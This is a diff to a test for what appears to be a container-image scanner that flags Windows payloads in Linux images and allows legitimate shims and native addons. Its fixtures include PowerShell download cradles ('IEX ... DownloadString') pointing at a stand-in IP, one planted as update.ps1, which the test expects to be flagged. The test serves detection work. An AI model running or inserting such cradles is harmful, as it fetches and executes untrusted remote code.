@@ -178,6 +178,17 @@ test('binaries: Windows files in a Linux image, allow-list, shims, a deleted pay
             content: 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.9/x")',
           },
           { path: 'tmp/inject.dll', content: injector },
+          // Installed software's Windows launchers and Sphinx make.bat: shims; a cradle is not.
+          { path: 'usr/share/go-1.19/src/make.bat', content: '@echo off\r\ngo build %*\r\n' },
+          { path: 'opt/kafka/bin/windows/kafka-server-start.bat', content: '@echo off\r\njava %*\r\n' },
+          {
+            path: 'usr/share/app/update.ps1',
+            content: 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.9/y")',
+          },
+          { path: 'app/node_modules/ssh2/util/pagent.exe', content: buildTestPe() },
+          // Prebuilt native addons for every platform (node-gyp-build and napi-rs layouts).
+          { path: 'app/node_modules/fast-db/prebuilds/win32-x64/node.napi.node', content: buildTestPe() },
+          { path: 'app/node_modules/core-x/lib/core_x.win32-x64-msvc.node', content: buildTestPe() },
         ],
       },
       { whiteouts: ['tmp/inject.dll'] },
@@ -188,7 +199,12 @@ test('binaries: Windows files in a Linux image, allow-list, shims, a deleted pay
   const byPath = new Map(found.map((f) => [f.path, f]));
   assert.deepEqual(
     [...byPath.keys()].sort(),
-    ['app/node_modules/evil-pkg/install.ps1', 'tmp/inject.dll', 'usr/local/bin/svchost.exe'],
+    [
+      'app/node_modules/evil-pkg/install.ps1',
+      'tmp/inject.dll',
+      'usr/local/bin/svchost.exe',
+      'usr/share/app/update.ps1',
+    ],
     JSON.stringify(found),
   );
   assert.equal(byPath.get('usr/local/bin/svchost.exe')!.severity, 'medium', 'plain PE');
